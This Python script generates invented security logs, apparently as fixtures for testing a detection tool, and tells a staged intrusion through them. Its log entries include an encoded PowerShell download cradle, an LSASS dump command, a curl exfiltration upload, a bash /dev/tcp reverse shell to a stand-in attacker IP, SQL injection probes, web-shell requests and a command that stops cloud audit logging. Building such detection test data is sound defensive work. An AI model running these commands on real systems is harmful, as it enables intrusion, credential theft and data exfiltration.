#!/usr/bin/env python3
"""Writes samples/logs. Only the committed files matter to Glossa; this script says how they came about.

Everything is invented. The output depends on nothing but this text: the seed is fixed and the clock is not read.
The story is told in samples/README.md; each of its steps is marked "step n" below.
"""
import base64
import datetime
import json
import pathlib
import random

OUT = pathlib.Path(__file__).resolve().parent / "logs"
DAY = datetime.datetime(2026, 3, 10, tzinfo=datetime.timezone.utc)
rng = random.Random(20260310)

PC, SERVER, DC, OTHER = "WS-017.corp.example.com", "FS-02.corp.example.com", "DC-01.corp.example.com", "WS-022.corp.example.com"
MARA, JONAS, SVC, SYSTEM = r"CORP\mara.lindt", r"CORP\jonas.weil", r"CORP\svc-backup", r"NT AUTHORITY\SYSTEM"
HOME = "C:\\Users\\mara.lindt"
ATTACKER, DROP, SPRAYER, SCANNER = "203.0.113.66", "203.0.113.90", "198.51.100.23", "192.0.2.250"


def at(clock, ms=0):
    """'08:41:07' of the day of the story."""
    h, m, s = (int(part) for part in clock.split(":"))
    return DAY + datetime.timedelta(hours=h, minutes=m, seconds=s, milliseconds=ms)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def spaced(t):
    return t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"


def between(first, last):
    a, b = at(first), at(last)
    return a + datetime.timedelta(milliseconds=rng.randrange(int((b - a).total_seconds() * 1000)))


def guid():
    return "{%08X-%04X-%04X-%04X-%012X}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48))


def write(name, events):
    events.sort(key=lambda pair: pair[0])
    text = "".join(json.dumps(event, ensure_ascii=False) + "\n" for _, event in events)
    (OUT / name).write_text(text, encoding="utf-8", newline="\n")
    print(f"{name:28} {len(events):4} events")


# ---------------------------------------------------------------- Sysmon, one flat object a line
sysmon = []


def flat(t, event_id, host, **fields):
    sysmon.append((t, {"TimeCreated": iso(t), "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
                       "EventID": event_id, "Computer": host, "UtcTime": spaced(t), **fields}))


def process(t, host, user, image, command, parent, parent_command="", integrity="Medium", parent_user=None, company="Microsoft Corporation",
            original=None, folder="C:\\Windows\\System32\\"):
    fields = dict(ProcessGuid=guid(), ProcessId=rng.randrange(1000, 20000), Image=image, Company=company,
                  OriginalFileName=original or image.rsplit("\\", 1)[-1], CommandLine=command, CurrentDirectory=folder, User=user,
                  IntegrityLevel=integrity, ParentImage=parent, ParentCommandLine=parent_command or parent)
    if company is None:
        del fields["Company"]
    if parent_user is not None:
        fields["ParentUser"] = parent_user
    flat(t, 1, host, **fields)


EXPLORER, SERVICES, SVCHOST = r"C:\Windows\explorer.exe", r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe"
CMD, PS = r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
IMPLANT = HOME + r"\AppData\Roaming\SyncHelper\synchelper.exe"

# background: a working day
for host, user in ((PC, MARA), (OTHER, JONAS)):
    for image, command in (
            (r"C:\Program Files\Browser\browser.exe", r'"C:\Program Files\Browser\browser.exe" --type=renderer'),
            (r"C:\Program Files\Mail\mail.exe", r'"C:\Program Files\Mail\mail.exe"'),
            (r"C:\Windows\System32\notepad.exe", r"notepad.exe C:\Notes\todo.txt"),
            (r"C:\Windows\System32\mspaint.exe", r"mspaint.exe"),
            (r"C:\Program Files\7-Zip\7z.exe", r'7z.exe x C:\Downloads\manual.7z'),
            (r"C:\Windows\System32\ipconfig.exe", r"ipconfig /all"),
            (r"C:\Windows\System32\whoami.exe", r"whoami"),
            (PS, r'powershell.exe -NoLogo -File C:\Tools\Get-Printers.ps1')):
        process(between("07:30:00", "17:00:00"), host, user, image, command, EXPLORER, parent_user=user)
for _ in range(14):
    host = rng.choice((PC, OTHER, SERVER, DC))
    process(between("06:00:00", "18:00:00"), host, SYSTEM, SVCHOST, r"C:\Windows\system32\svchost.exe -k netsvcs -p", SERVICES,
            integrity="System", parent_user=SYSTEM)
# the inventory agent does what the attacker does, and is filtered
for clock, host in (("07:02:11", PC), ("07:02:40", OTHER), ("13:02:09", PC)):
    process(at(clock), host, SYSTEM, PS, "powershell.exe -WindowStyle Hidden -EncodedCommand RwBlAHQALQBIAG8AdABmAGkAeAA=",
            r"C:\Program Files\Larkfield\Inventory\agent.exe", integrity="System", parent_user=SYSTEM, original="PowerShell.EXE")
process(at("01:15:00"), SERVER, SVC, r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a D:\Backup\daily.7z D:\Shares -pNightly",
        r"C:\Program Files\Backup\backup-runner.exe", parent_user=SVC, company="Igor Pavlov", folder="D:\\Backup\\")
process(at("11:20:00"), OTHER, JONAS, r"C:\Windows\System32\curl.exe", r"curl.exe --upload-file build.zip https://packages.corp.example.com/drop",
        CMD, parent_user=JONAS)
for clock, address, image in (("08:05:10", "10.20.0.40", HOME + r"\AppData\Roaming\Chat\chat.exe"), ("08:05:12", "fd12:3456::40", HOME + r"\AppData\Roaming\Chat\chat.exe"),
                              ("09:00:01", "192.0.2.80", r"C:\Program Files\Browser\browser.exe"), ("09:10:44", "198.51.100.7", r"C:\Program Files\Browser\browser.exe"),
                              ("10:00:00", "10.20.0.2", SVCHOST), ("12:31:09", "192.0.2.81", r"C:\Program Files\Mail\mail.exe")):
    flat(at(clock), 3, PC, Image=image, User=MARA, Protocol="tcp", Initiated="true", SourceIp="10.20.0.17", SourcePort=rng.randrange(49152, 65535),
         DestinationIp=address, DestinationPort=443)
for name in ("www.example.com", "mail.corp.example.com", "time.example.net", "dc-01.corp.example.com", "updates.example.org", "printer-2.corp.example.com",
             "0a1b2c3d4e5f60718293a4b5c6d7e8f901.edge.example.com", "docs.example.com", "intranet.corp.example.com", "status.example.org"):
    flat(between("07:30:00", "17:30:00"), 22, rng.choice((PC, OTHER)), QueryName=name, QueryStatus="0", QueryResults="::ffff:192.0.2.80;", Image=r"C:\Program Files\Browser\browser.exe", User=MARA)
for key, value in ((r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\Chat", HOME + r"\AppData\Local\Larkfield\Chat\update.exe --quiet"),
                   (r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Audio", r"C:\Program Files\Audio\panel.exe"),
                   (r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters\Hostname", "WS-017"),
                   (r"HKU\S-1-5-21-1004\Control Panel\Desktop\Wallpaper", r"C:\Pictures\hills.jpg")):
    flat(between("08:00:00", "16:00:00"), 13, PC, EventType="SetValue", Image=EXPLORER, TargetObject=key, Details=value, User=MARA)
for image, name in ((EXPLORER, HOME + r"\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\Notes.lnk"), (WORD, HOME + r"\Documents\~$offer.docx"),
                    (r"C:\Program Files\Browser\browser.exe", HOME + r"\Downloads\manual.7z"), (WORD, HOME + r"\Documents\offer.docx"),
                    (SVCHOST, r"C:\Windows\Prefetch\NOTEPAD.EXE-1.pf")):
    flat(between("08:00:00", "16:00:00"), 11, PC, Image=image, TargetFilename=name, CreationUtcTime=spaced(DAY), User=MARA)
for library, signed in ((r"C:\Windows\System32\version.dll", "true"), (r"C:\Program Files\Mail\render.dll", "false"), (HOME + r"\AppData\Local\Mail\spell.dll", "true")):
    flat(between("08:00:00", "16:00:00"), 7, PC, Image=r"C:\Program Files\Mail\mail.exe", ImageLoaded=library, Signed=signed, SignatureStatus="Valid" if signed == "true" else "Unavailable", User=MARA)

# step 1: the letter is opened
process(at("08:41:07", 112), PC, MARA, WORD, f'"{WORD}" /n "{HOME}\\Downloads\\Invoice_4471.docm"', EXPLORER, parent_user=MARA)
script = "$c=New-Object Net.WebClient;IEX $c.DownloadString('https://cdn-sync.example.net/a')"
packed = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
process(at("08:41:19", 380), PC, MARA, PS, f"powershell.exe -w hidden –enc {packed}", WORD, parent_user=MARA, original="PowerShell.EXE")
flat(at("08:41:24", 7), 22, PC, QueryName="cdn-sync.example.net", QueryStatus="0", QueryResults=f"::ffff:{ATTACKER};", Image=PS, User=MARA)
flat(at("08:41:24", 90), 3, PC, Image=PS, User=MARA, Protocol="tcp", Initiated="true", SourceIp="10.20.0.17", SourcePort=50122, DestinationIp=ATTACKER, DestinationPort=443)
# step 2: it settles
flat(at("08:41:40", 501), 11, PC, Image=PS, TargetFilename=IMPLANT, CreationUtcTime=spaced(at("08:41:40")), User=MARA)
flat(at("08:41:41", 20), 11, PC, Image=PS, TargetFilename=HOME + r"\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\SyncHelper.lnk",
     CreationUtcTime=spaced(at("08:41:41")), User=MARA)
flat(at("08:41:44", 9), 13, PC, EventType="SetValue", Image=PS, TargetObject=r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\SyncHelper",
     Details=IMPLANT, User=MARA)
process(at("08:42:02", 640), PC, MARA, IMPLANT, f'"{IMPLANT}" --start', PS, parent_user=MARA, company="-", original="-", folder=HOME + "\\")
for clock in ("08:42:05", "08:52:05", "09:02:05", "09:12:05"):
    flat(at(clock, 300), 3, PC, Image=IMPLANT, User=MARA, Protocol="tcp", Initiated="true", SourceIp="10.20.0.17", SourcePort=rng.randrange(49152, 65535),
         DestinationIp=ATTACKER, DestinationPort=443)
flat(at("08:42:31"), 7, PC, Image=r"C:\Program Files\Mail\mail.exe", ImageLoaded=HOME + r"\AppData\Roaming\SyncHelper\render.dll", Signed="false",
     SignatureStatus="Unavailable", User=MARA)
# step 3: it looks around
process(at("08:47:12"), PC, MARA, r"C:\Windows\System32\whoami.exe", "whoami /ALL", IMPLANT, parent_user=MARA)
process(at("08:48:03"), PC, MARA, r"C:\Windows\System32\nltest.exe", "nltest -domain_trusts", IMPLANT, parent_user=MARA, original="nltestrk.exe")
process(at("08:50:41"), PC, MARA, r"C:\Windows\System32\net.exe", 'net  group "Domain Admins" /domain', IMPLANT, parent_user=MARA)
# on the other machine the two questions are an hour apart: no chain
process(at("14:00:00"), OTHER, JONAS, r"C:\Windows\System32\whoami.exe", "whoami /priv", CMD, parent_user=JONAS)
process(at("15:04:00"), OTHER, JONAS, r"C:\Windows\System32\nltest.exe", "nltest /dclist:corp", CMD, parent_user=JONAS, original="nltestrk.exe")
# step 4: it takes what is in memory
process(at("08:58:20"), PC, MARA, r"C:\Windows\Temp\pd.exe", "pd.exe -accepteula", IMPLANT, parent_user=MARA, company=None, original="-", folder="C:\\Windows\\Temp\\")
process(at("09:05:02"), PC, SYSTEM, CMD, "cmd.exe /c echo ok", IMPLANT, integrity="System", parent_user=MARA)
process(at("09:05:31"), PC, SYSTEM, r"C:\Windows\Temp\pd.exe", r"pd.exe /ma lsass.exe C:\Windows\Temp\l.bin", CMD, integrity="System", parent_user=SYSTEM,
        company="Sample Tools", original="pd.exe", folder="C:\\Windows\\Temp\\")
# step 6: the file server (step 5, the guessing, is in security-logons.ndjson)
WMI = r"C:\Windows\System32\wbem\WmiPrvSE.exe"
process(at("09:36:08"), SERVER, SVC, CMD, r"cmd.exe /Q /c hostname > \\127.0.0.1\ADMIN$\__8812 2>&1", WMI, integrity="High", parent_user=r"NT AUTHORITY\NETWORK SERVICE")
process(at("09:36:40"), SERVER, SVC, PS, r"powershell.exe Get-Volume", WMI, integrity="High", parent_user=r"NT AUTHORITY\NETWORK SERVICE", original="PowerShell.EXE")
# step 7: pack and send
process(at("09:52:17"), SERVER, SVC, r"C:\Windows\Temp\7z.exe", r"7z.exe a C:\Windows\Temp\o.7z D:\Shares\Design -pQ1w -mhe", CMD, integrity="High", parent_user=SVC,
        company="Igor Pavlov", original="7z.exe", folder="C:\\Windows\\Temp\\")
process(at("09:58:44"), SERVER, SVC, r"C:\Windows\System32\curl.exe", f"curl.exe -k -T C:\\Windows\\Temp\\o.7z https://{DROP}/in/", CMD, integrity="High", parent_user=SVC)
for i in range(6):
    label = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(44))
    flat(at("10:02:00") + datetime.timedelta(seconds=3 * i), 22, SERVER, QueryName=f"{label}.t.example.net", QueryStatus="0", QueryResults="-",
         Image=r"C:\Windows\Temp\7z.exe", User=SVC)

# ---------------------------------------------------------------- Windows as an exporter nests it, pretty-printed, one object after the other
nested = []


def record(t, channel, provider, event_id, host, data):
    nested.append((t, {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                                 "System": {"Provider": {"#attributes": {"Name": provider}}, "EventID": event_id, "Level": 4,
                                            "TimeCreated": {"#attributes": {"SystemTime": iso(t)}}, "EventRecordID": 41000 + len(nested),
                                            "Channel": channel, "Computer": host, "Security": {}},
                                 "EventData": data}}))


POSH = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104)
for clock, text in (("07:02:12", "Get-HotFix | Sort-Object InstalledOn"), ("09:15:30", "Get-Printer -ComputerName print-01 | Format-Table Name"),
                    ("11:40:00", "Import-Module Larkfield.Tools; Update-Shortcut -Force"),
                    ("16:20:09", "[Convert]::FromBase64String($config) | Out-Null  # settings only"),
                    ("16:21:00", "Write-Host 'tvqqaamaaaaeaaaa is no program when it is written small'"),
                    # step 1: what the command really was, then what it fetched
                    ("08:41:20", script),
                    ("08:41:29", "$b=[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgA');$a=[Reflection.Assembly]::Load($b);$a.EntryPoint.Invoke($null,$null)")):
    record(at(clock), *POSH, PC, {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "ScriptBlockId": guid(), "Path": ""})
SCM = ("System", "Service Control Manager", 7045)
for clock, host, name, path in (("06:30:00", OTHER, "Print Notify", r"C:\Windows\System32\printnotify.exe"), ("12:00:00", PC, "Audio Panel", r"C:\Program Files\Audio\svc.exe"),
                                ("13:30:00", PC, "Long Name Driver", r"C:\ProgramData\LarkfieldDrivers\drv.exe"),
                                ("09:38:15", SERVER, "SyncSvc", r"C:\Windows\Temp\svc64.exe -k")):  # step 6
    record(at(clock), *SCM, host, {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"})
for clock, host in (("05:00:00", DC), ("05:00:02", SERVER), ("05:00:04", PC)):
    record(at(clock), "System", "Microsoft-Windows-Kernel-General", 16, host, {"HiveNameLength": 28, "HiveName": r"\??\C:\Users\Default\NTUSER.DAT"})
record(at("10:05:50"), "Security", "Microsoft-Windows-Eventlog", 1102, SERVER, {"SubjectUserName": "svc-backup", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e9a1"})  # step 8
for clock in ("06:10:00", "12:10:00", "18:10:00"):
    record(at(clock), "Security", "Microsoft-Windows-Security-Auditing", 4688, DC, {"SubjectUserName": "DC-01$", "NewProcessName": SVCHOST, "NewProcessId": "0x4d8",
           "CommandLine": "svchost.exe -k wsappx", "ParentProcessName": SERVICES, "TokenElevationType": "%%1936"})
record(at("10:04:33"), "Security", "Microsoft-Windows-Security-Auditing", 4688, DC, {"SubjectUserName": "svc-backup", "NewProcessName": r"C:\Windows\System32\cmd.exe",
       "NewProcessId": "0x1c30", "CommandLine": r"cmd.exe /Q /c dir C:\ > \\127.0.0.1\ADMIN$\__8813 2>&1", "ParentProcessName": WMI, "TokenElevationType": "%%1937"})

# ---------------------------------------------------------------- logons
logons = []


def logon(t, event_id, user, address, kind=3, host=SERVER):
    event = {"TimeCreated": iso(t), "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing", "EventID": event_id, "Computer": host,
             "TargetUserName": user, "TargetDomainName": "CORP", "LogonType": kind, "IpAddress": address, "IpPort": str(rng.randrange(49152, 65535)), "WorkstationName": "-"}
    if event_id == 4625:
        event.update(Status="0xc000006d", SubStatus="0xc000006a")
    logons.append((t, event))


for _ in range(22):
    logon(between("07:00:00", "18:00:00"), 4624, rng.choice(("mara.lindt", "jonas.weil", "WS-017$", "WS-022$", "FS-02$")), rng.choice(("10.20.0.17", "10.20.0.22")))
for clock, user in (("07:45:02", "mara.lindt"), ("07:45:11", "mara.lindt"), ("12:58:40", "jonas.weil"), ("13:30:00", "WS-022$")):
    logon(at(clock), 4625, user, "10.20.0.17")
logon(at("07:50:00"), 4625, "mara.lindt", "-", kind=2)
logon(at("09:00:00"), 4624, "adm-ruiz", "10.20.0.5", kind=10)      # from a jump host
logon(at("10:03:10"), 4624, "adm-okafor", "10.20.0.17", kind=10)   # step 8: not from one
for i in range(15):                                                 # our scanner: would be guessing, were it not for the filter rule
    logon(at("03:00:00") + datetime.timedelta(seconds=12 * i), 4625, "scan-probe", SCANNER)
people = ("anders", "brigit", "chidi", "dolores", "emil", "farah", "goran", "hana", "ilse", "jonas.weil")
for i, user in enumerate(people):                                   # step 5: one try each, from outside
    logon(at("09:14:00") + datetime.timedelta(seconds=41 * i), 4625, user, SPRAYER, kind=10, host="RD-01.corp.example.com")
for i in range(14):                                                 # step 5: then one account, from inside
    logon(at("09:31:05") + datetime.timedelta(seconds=11 * i), 4625, "svc-backup", "10.20.0.17")
logon(at("09:34:50"), 4624, "svc-backup", "10.20.0.17")             # step 5: and in
for i in range(9):                                                  # nine tries in five minutes, then quiet: one too few
    logon(at("16:00:00") + datetime.timedelta(seconds=30 * i), 4625, "jonas.weil", "10.20.0.22")

# ---------------------------------------------------------------- ECS, as a shipper writes it
ecs = []


def winlogbeat(t, channel, provider, code, host, data, **groups):
    ecs.append((t, {"@timestamp": iso(t), "ecs": {"version": "8.11.0"}, "agent": {"type": "winlogbeat"}, "event": {"code": str(code), "provider": provider, "kind": "event", **groups.pop("event", {})},
                    "host": {"name": host.split(".")[0].lower(), "os": {"type": "windows"}}, "winlog": {"channel": channel, "provider_name": provider, "event_id": str(code),
                    "computer_name": host, "event_data": data}, **groups}))


def ecs_process(t, host, user, image, command, parent):
    winlogbeat(t, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, host,
               {"Image": image, "CommandLine": command, "ParentImage": parent, "User": user, "IntegrityLevel": "Medium", "Company": "Microsoft Corporation"},
               event={"category": ["process"], "type": ["start"], "action": "Process Create"},
               process={"executable": image, "name": image.rsplit("\\", 1)[-1], "command_line": command, "parent": {"executable": parent, "name": parent.rsplit("\\", 1)[-1]}},
               user={"domain": user.split("\\")[0], "name": user.split("\\")[1]})


KIOSK = "WS-031.corp.example.com"
for _ in range(10):
    ecs_process(between("07:00:00", "17:00:00"), KIOSK, r"CORP\ines.roth", *rng.choice(((r"C:\Program Files\Browser\browser.exe", "browser.exe --tab", EXPLORER),
                (r"C:\Windows\System32\notepad.exe", "notepad.exe", EXPLORER), (CMD, r"cmd.exe /c C:\Tools\map-drives.cmd", r"C:\Windows\System32\gpscript.exe"))))
ecs_process(at("10:44:02"), KIOSK, r"CORP\ines.roth", CMD, r"cmd.exe /c start C:\Users\Public\view.exe", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE")  # step 9
winlogbeat(at("10:44:09"), "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 13, KIOSK,
           {"EventType": "SetValue", "Image": r"C:\Users\Public\view.exe", "TargetObject": r"HKU\S-1-5-21-1031\Software\Microsoft\Windows\CurrentVersion\Run\View",
            "Details": r"C:\Users\Public\view.exe"}, event={"category": ["registry"], "type": ["change"]},
           registry={"path": r"HKU\S-1-5-21-1031\Software\Microsoft\Windows\CurrentVersion\Run\View", "data": {"strings": [r"C:\Users\Public\view.exe"]}})  # step 9
winlogbeat(at("10:44:30"), "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 22, KIOSK,
           {"QueryName": "www.example.com", "QueryStatus": "0", "Image": r"C:\Program Files\Browser\browser.exe"}, event={"category": ["network"], "type": ["protocol"]},
           dns={"question": {"name": "www.example.com"}})
for clock, address in (("08:10:00", "10.20.0.31"), ("12:10:00", "10.20.0.31")):
    winlogbeat(at(clock), "Security", "Microsoft-Windows-Security-Auditing", 4624, KIOSK, {"TargetUserName": "ines.roth", "LogonType": "3", "IpAddress": address},
               event={"category": ["authentication"], "type": ["start"], "outcome": "success"}, source={"ip": address}, user={"name": "ines.roth"})

# ---------------------------------------------------------------- Linux: audit trail, and Sysmon's Linux edition
audit, penguin = [], []
WEB = "lnx-web-01"


def execve(t, *words, uid="1000", exe="/usr/bin/bash"):
    serial = 9000 + 3 * len(audit)
    audit.append((t, {"time": iso(t), "node": WEB, "type": "SYSCALL", "serial": serial, "arch": "c000003e", "syscall": "59", "success": "yes", "exit": "0", "uid": uid, "euid": uid,
                      "exe": exe, "comm": words[0].rsplit("/", 1)[-1], "key": "exec"}))
    audit.append((t, {"time": iso(t), "node": WEB, "type": "EXECVE", "serial": serial, "argc": str(len(words)), **{f"a{i}": word for i, word in enumerate(words)}}))


for words in (("ls", "-la", "/srv/www"), ("chmod", "644", "/srv/www/index.html"), ("chmod", "0755", "/srv/www/cgi"), ("systemctl", "reload", "nginx"), ("tar", "czf", "/backup/www.tgz", "/srv/www"),
              ("tail", "-n", "50", "/var/log/nginx/access.log"), ("git", "pull"), ("df", "-h"), ("chmod", "g-w", "/srv/www")):
    execve(between("06:00:00", "18:00:00"), *words)
execve(at("11:12:40"), "cp", "/bin/dash", "/tmp/.d", uid="33", exe="/usr/bin/cp")
execve(at("11:12:44"), "/usr/bin/chmod", "4755", "/tmp/.d", uid="0", exe="/usr/bin/chmod")     # step 10
execve(at("11:13:02"), "chmod", "u+s", "/usr/bin/find", uid="0", exe="/usr/bin/chmod")         # step 10
for clock, who in (("06:01:00", "deploy"), ("09:40:00", "deploy"), ("17:30:00", "deploy")):
    audit.append((at(clock), {"time": iso(at(clock)), "node": WEB, "type": "USER_LOGIN", "serial": 8800, "acct": who, "exe": "/usr/sbin/sshd", "addr": "10.20.0.6", "res": "success"}))


def linux(t, user, image, command, parent):
    penguin.append((t, {"TimeCreated": iso(t), "Channel": "Linux-Sysmon/Operational", "Provider_Name": "Linux-Sysmon", "EventID": 1, "Computer": WEB, "ProcessGuid": guid(),
                        "ProcessId": rng.randrange(500, 40000), "Image": image, "CommandLine": command, "CurrentDirectory": "/", "User": user, "ParentImage": parent, "ParentCommandLine": parent}))


for command in ("/usr/bin/python3 /opt/metrics/agent.py", "/usr/sbin/logrotate /etc/logrotate.conf", "/bin/sh /etc/cron.daily/apt-compat", "/usr/bin/git fetch --all",
                "/bin/bash -c exec 3<>/opt/queue/fifo", "/usr/bin/apt-get update", "/usr/bin/id -u"):
    linux(between("05:00:00", "18:00:00"), "root", command.split(" ")[0], command, "/usr/sbin/cron")
linux(at("06:25:01"), "www-data", "/bin/sh", "/bin/sh -c '/usr/sbin/rotatelogs /var/log/apache2/access.log 86400'", "/usr/sbin/apache2")
linux(at("11:08:20"), "www-data", "/usr/bin/dash", "sh -c id", "/usr/sbin/php-fpm8.2")                                                     # step 10
linux(at("11:09:31"), "www-data", "/usr/bin/bash", f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'", "/usr/bin/dash")                # step 10

# ---------------------------------------------------------------- web server
web = []


def request(t, client, method, stem, query="-", status=200, size=None, taken=None, agent="Mozilla/5.0 (sample)"):
    web.append((t, {"timestamp": iso(t), "s-computername": WEB, "c-ip": client, "cs-method": method, "cs-uri-stem": stem, "cs-uri-query": query, "sc-status": status,
                    "sc-bytes": size if size is not None else rng.randrange(400, 60000), "time-taken": taken if taken is not None else rng.randrange(2, 900),
                    "cs-user-agent": agent, "cs-host": "www.example.com"}))


for _ in range(45):
    request(between("06:00:00", "18:00:00"), f"198.51.100.{rng.randrange(100, 200)}", "GET", rng.choice(("/", "/products", "/about", "/style.css", "/files/manual.pdf", "/search")),
            rng.choice(("-", "q=gauge", "page=2", "lang=de")))
request(at("08:20:00"), "10.20.0.31", "GET", "/export/full.zip", size=48_000_000, taken=21000)          # from inside
request(at("12:20:00"), "198.51.100.140", "GET", "/export/full.zip", size=48_000_000, taken=181000)     # slow
request(at("12:40:00"), "198.51.100.141", "GET", "/export/full.zip", size=48_000_000, taken=33000)      # once: no sum
request(at("11:00:02"), "198.51.100.77", "GET", "/search", "q=1%27+union+all+select+name,2+from+users--", status=500, agent="probe/0.3")   # step 10
request(at("11:00:04"), "198.51.100.77", "GET", "/search", "q=1+and+sleep(5)", status=200, taken=5012, agent="probe/0.3")                 # step 10
request(at("11:00:09"), "198.51.100.77", "GET", "/search", "q=information_schema.tables", status=403, agent="probe/0.3")                  # step 10
request(at("11:00:10"), "198.51.100.77", "GET", "/union-select-from.css", status=404, agent="probe/0.3")                                  # a style sheet: excepted
request(at("11:05:00"), ATTACKER, "POST", "/uploads/new", status=201)
request(at("11:07:11"), ATTACKER, "GET", "/uploads/img_0231.PHP", "cmd=id", status=200)                                                    # step 10
request(at("11:08:19"), ATTACKER, "POST", "/uploads/img_0231.php", "cmd=bash", status=200)                                                 # step 10
for i in range(3):                                                                                                                          # step 11
    request(at("11:31:00") + datetime.timedelta(minutes=7 * i), DROP, "GET", f"/export/part{i}.zip", size=41_000_000 + i, taken=30500)

# ---------------------------------------------------------------- cloud and identity
trail = []


def call(clock, source, name, user, address, **extra):
    t = at(clock)
    trail.append((t, {"eventVersion": "1.09", "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE" + user[:4].upper(), "arn": f"arn:aws:iam::111122223333:user/{user}",
                                                               "accountId": "111122223333", "userName": user},
                      "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source, "eventName": name, "awsRegion": "eu-central-1", "sourceIPAddress": address,
                      "userAgent": "console.amazonaws.com", "requestParameters": extra.pop("request", None), "responseElements": extra.pop("response", None), "eventID": guid().strip("{}").lower(),
                      "eventType": "AwsApiCall", "recipientAccountId": "111122223333", **extra}))


MAIL = "mara.lindt@example.com"
for i in range(20):
    call(between("06:00:00", "18:00:00").strftime("%H:%M:%S"), rng.choice(("ec2.amazonaws.com", "s3.amazonaws.com")), rng.choice(("DescribeInstances", "ListBuckets", "DescribeVolumes", "GetBucketAcl")),
         rng.choice(("deploy", "metrics", MAIL)), "192.0.2.10")
SIGNIN = dict(response={"ConsoleLogin": "Success"}, eventType="AwsConsoleSignIn")
call("08:00:10", "signin.amazonaws.com", "ConsoleLogin", MAIL, "192.0.2.10", additionalEventData={"MFAUsed": "Yes"}, **dict(SIGNIN))
call("09:05:00", "signin.amazonaws.com", "ConsoleLogin", "jonas.weil@example.com", "192.0.2.11", additionalEventData={"MFAUsed": "No"}, **dict(SIGNIN))   # from an office
call("10:26:31", "signin.amazonaws.com", "ConsoleLogin", MAIL, ATTACKER, additionalEventData={"MFAUsed": "No"}, **dict(SIGNIN))                            # step 8
call("10:29:00", "cloudtrail.amazonaws.com", "StopLogging", MAIL, ATTACKER, errorCode="AccessDenied", errorMessage="not authorized", request={"name": "main"})
call("10:31:12", "cloudtrail.amazonaws.com", "StopLogging", "deploy", ATTACKER, request={"name": "main"})                                                 # step 8
call("23:12:09", "iam.amazonaws.com", "CreateAccessKey", MAIL, ATTACKER, request={"userName": "metrics"}, response={"accessKey": {"userName": "metrics", "status": "Active"}})   # step 11
call("23:14:30", "iam.amazonaws.com", "CreateAccessKey", "deploy", "192.0.2.10", request={"userName": "deploy"})                                            # its own
call("14:00:00", "iam.amazonaws.com", "CreateAccessKey", "deploy", "192.0.2.10", request={"userName": "metrics"})                                           # by day

okta = []


def identity(clock, kind, who, address, result="SUCCESS", message=""):
    t = at(clock)
    okta.append((t, {"uuid": guid().strip("{}").lower(), "published": iso(t), "eventType": kind, "version": "0", "severity": "INFO", "displayMessage": message or kind,
                     "actor": {"id": "00u" + who[:5], "type": "User", "alternateId": who, "displayName": who.split("@")[0]},
                     "client": {"ipAddress": address, "userAgent": {"rawUserAgent": "Mozilla/5.0 (sample)"}}, "outcome": {"result": result, "reason": None},
                     "target": [{"id": "00u" + who[:5], "type": "User", "alternateId": who}]}))


for i in range(16):
    who = rng.choice((MAIL, "jonas.weil@example.com", "ines.roth@example.com"))
    identity(between("06:30:00", "17:00:00").strftime("%H:%M:%S"), rng.choice(("user.session.start", "user.authentication.sso", "policy.evaluate_sign_on")), who, "192.0.2.10")
identity("08:30:00", "user.mfa.factor.deactivate", "jonas.weil@example.com", "192.0.2.11", result="FAILURE", message="Reset factor for user")
identity("10:19:02", "user.session.start", MAIL, ATTACKER)
identity("10:20:15", "user.mfa.factor.deactivate", MAIL, ATTACKER, message="Reset factor for user")                     # step 8
identity("14:02:00", "user.mfa.factor.reset_all", "ines.roth@example.com", "192.0.2.10", message="Reset all factors")   # a new telephone: fires, starts no chain

azure = []
for clock, who, client, code, managed, address in (("07:31:00", MAIL, "Browser", 0, True, "192.0.2.10"), ("08:02:00", "ines.roth@example.com", "Mobile Apps and Desktop clients", 0, True, "192.0.2.10"),
        ("09:12:00", "jonas.weil@example.com", "Browser", 50126, True, "192.0.2.11"), ("10:15:00", MAIL, "Browser", 53003, False, ATTACKER), ("10:16:40", MAIL, "IMAP4", 0, False, ATTACKER),
        ("12:00:00", "printer@example.com", "Authenticated SMTP", 0, False, "192.0.2.10"), ("15:45:00", "jonas.weil@example.com", "Browser", 0, True, "192.0.2.11")):
    azure.append((at(clock), {"TimeGenerated": iso(at(clock)), "Type": "SigninLogs", "Category": "SignInLogs", "UserPrincipalName": who, "AppDisplayName": "Mail", "ClientAppUsed": client,
                              "ResultType": code, "IPAddress": address, "DeviceDetail": {"isManaged": managed, "operatingSystem": "Windows"}}))

github = []
